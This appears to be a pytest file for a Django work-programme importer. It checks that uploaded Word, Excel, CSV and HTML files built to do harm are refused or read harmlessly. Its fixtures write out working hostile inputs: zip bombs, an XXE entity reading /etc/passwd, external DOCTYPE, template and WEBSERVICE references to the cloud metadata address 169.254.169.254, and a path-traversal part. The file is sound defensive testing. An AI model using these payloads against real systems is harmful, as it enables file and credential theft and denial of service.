"""Documents built to harm: one sentence on the page and at the terminal, whatever they are."""

import os
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from culturefirst.network.models import User
from culturefirst.programme.models import ImportedDocument, WorkProgramme
from culturefirst.programme.tests.test_pages_programme import text
from culturefirst.programme.understanding import understood

SignIn = Callable[[Any], Client]
CULTUREFIRST = str(Path(sys.executable).with_name("culturefirst"))
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ELSEWHERE = "http://169.254.169.254/evil.dotm"
ROWS = (
    ("Objective", "Task", "Measure of success", "Responsible"),
    ("Read more", "Ask every library", "3 reading days", "Library team"),
)
DOCUMENT_TYPE = "The file declares a document type, which documents of Word and Excel never do."
DAMAGED = "The file is damaged or is not what its name says."


Parts = Mapping[str, str | bytes]
NONE: Parts = {}


def packed(path: Path, parts: Parts) -> Path:
    """A package of these parts."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return path


def word(path: Path, *, before: str = "", last: str = "", parts: Parts = NONE) -> Path:
    rows = (*ROWS, (last,) * 4) if last else ROWS
    cells = "".join(
        "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{c}</w:t></w:r></w:p></w:tc>" for c in row)
        + "</w:tr>"
        for row in rows
    )  # fmt: skip
    body = f'{before}<w:document xmlns:w="{WORD}"><w:tbl>{cells}</w:tbl></w:document>'
    return packed(path, {"word/document.xml": body, **parts})


def excel(path: Path, rows: str = "", formula: str = "") -> Path:
    """A workbook of ``ROWS``, each cell a formula with its stored value where one is given."""
    told = f"<f>{formula}</f>" if formula else ""
    cells = "".join(
        f'<row r="{r}">'
        + "".join(f'<c t="str">{told}<v>{value}</v></c>' for value in row)
        + "</row>"
        for r, row in enumerate(ROWS, 1)
    )
    book = f'<sheets><sheet name="Plan" xmlns:r="{OFFICE}" r:id="a"/></sheets>'
    related = f'<Relationship Id="a" Type="{OFFICE}/worksheet" Target="sheet.xml"/>'
    return packed(
        path,
        {
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}">{book}</workbook>',
            "xl/_rels/workbook.xml.rels": f'<a xmlns="{PACKAGE}">{related}</a>',
            "xl/sheet.xml": f'<worksheet xmlns="{SHEET}"><sheetData>{cells}{rows}</sheetData>'
            "</worksheet>",
        },
    )


def lying(path: Path) -> Path:
    """A bomb whose list of contents says that it is small."""
    packed(path, {"word/document.xml": b" " * (200 * 2**20)})
    raw = bytearray(path.read_bytes())
    at = raw.rfind(b"PK\x01\x02") + 24
    raw[at : at + 4] = (1_000).to_bytes(4, "little")
    path.write_bytes(raw)
    return path


def bytes_of(name: str, content: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (path := folder / name).write_bytes(content)
        return path

    return make


def many(row: str) -> str:
    """A million rows, numbered, so that they are not packed too well to be unpacked."""
    return "".join(row.format(number) for number in range(3, 1_000_003))


ENTITY = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REFUSED: dict[str, tuple[Callable[[Path], Path], str]] = {
    "a bomb": (
        lambda at: packed(at / "a.docx", {"word/document.xml": b" " * (200 * 2**20)}),
        "The file unpacks to more than 100 MB or to more than 100 times its size.",
    ),
    "a bomb that lies": (lambda at: lying(at / "a.docx"), DAMAGED),
    "an outside entity": (
        lambda at: word(at / "a.docx", before=ENTITY, last="&x;"),
        DOCUMENT_TYPE,
    ),
    "an outside document type": (
        lambda at: word(at / "a.docx", before=f'<!DOCTYPE d SYSTEM "{ELSEWHERE}">'),
        DOCUMENT_TYPE,
    ),
    "a million cells": (
        lambda at: excel(at / "a.xlsx", rows=many('<row r="{0}"><c r="A{0}"/></row>')),
        "The file is built too deeply or of too many pieces to be read.",
    ),
    "a line of nineteen megabytes": (
        bytes_of("a.txt", b"3 days by end July 2011 " * 800_000),
        "The row cannot be told apart into columns.",
    ),
    "nothing but tabs": (
        bytes_of("a.txt", b"\t" * (19 * 2**20)),
        "The document has more than 200,000 cells.",
    ),
    "another file's name": (
        bytes_of("a.docx", b"Objective,Task\n"),
        "The file is named .docx but holds something else.",
    ),
    "a page": (
        bytes_of("a.html", b"<script>alert(1)</script>"),
        "A file of this kind (.html) cannot be read as a work programme.",
    ),
}
READ: dict[str, Callable[[Path], Path]] = {
    "empty rows": lambda at: excel(at / "a.xlsx", rows=many('<row r="{0}"/>')),
    "formulas, by their stored values": lambda at: excel(
        at / "a.xlsx", formula=f"WEBSERVICE(&quot;{ELSEWHERE}&quot;)"
    ),
    "macros": lambda at: word(at / "a.docm", parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "a template from elsewhere": lambda at: word(
        at / "a.docx",
        parts={
            "word/_rels/document.xml.rels": f'<a xmlns="{PACKAGE}"><Relationship Id="b" '
            f'Type="{OFFICE}/attachedTemplate" Target="{ELSEWHERE}" TargetMode="External"/></a>'
        },
    ),
    "a part that climbs out": lambda at: word(at / "a.docx", parts={"../../out.txt": b"out"}),
    "zero bytes": bytes_of("a.csv", "\n".join(f"{','.join(row)}\0" for row in ROWS).encode()),
}


@pytest.fixture(autouse=True)
def files(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "stored"


@pytest.mark.parametrize("name", REFUSED)
def test_the_page_says_why_and_keeps_the_file(
    name: str, signed_in: SignIn, helen: User, tmp_path: Path
) -> None:
    make, says = REFUSED[name]
    made = make(tmp_path)
    client = signed_in(helen)
    sent = {"file": SimpleUploadedFile(made.name, made.read_bytes())}
    answer = client.post(reverse("programme_import"), sent, follow=True)
    assert answer.status_code == 422
    assert says in text(answer)
    [kept] = ImportedDocument.objects.all()
    assert Path(kept.file.path).read_bytes() == made.read_bytes()
    assert not WorkProgramme.objects.exists()


@pytest.mark.parametrize("name", READ)
def test_what_is_harmless_once_it_is_only_read_is_read(name: str, tmp_path: Path) -> None:
    document = understood(READ[name](tmp_path))
    [activity] = document.activities
    assert (activity.title, activity.leads) == ("Read more", ["Library team"])
    [target] = document.targets
    assert (target.quantity, target.unit) == (3.0, "reading days")
    assert document.read == document.placed
    assert "\0" not in str(document.to_json())


@pytest.fixture
def places(tmp_path: Path) -> Iterator[dict[str, Path]]:
    """What is no file at all."""
    (folder := tmp_path / "folder.docx").mkdir()
    os.mkfifo(pipe := tmp_path / "pipe.docx")
    (endless := tmp_path / "endless.csv").symlink_to("/dev/zero")
    (empty := tmp_path / "empty.docx").touch()
    missing = tmp_path / "missing.docx"
    yield {"folder": folder, "pipe": pipe, "endless": endless, "empty": empty, "missing": missing}


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("folder", "is not a file; give the document itself"),
        ("pipe", "is not a file; give the document itself"),
        ("endless", "is not a file; give the document itself"),
        ("empty", "The file is empty. Choose the file that you filled in."),
        ("missing", "check the name and the folder"),
    ],
)
def test_the_terminal_is_told_in_one_line_and_never_waits(
    name: str, says: str, places: dict[str, Path], tmp_path: Path
) -> None:
    done = subprocess.run(
        [CULTUREFIRST, "programme", "read", str(places[name])],
        env={"PATH": os.environ["PATH"], "CULTUREFIRST_VAR": str(tmp_path / "var")},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=20,
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.startswith("culturefirst: ")
    assert done.stderr.endswith(f"{says}\n")
    assert done.stderr.count("\n") == 1
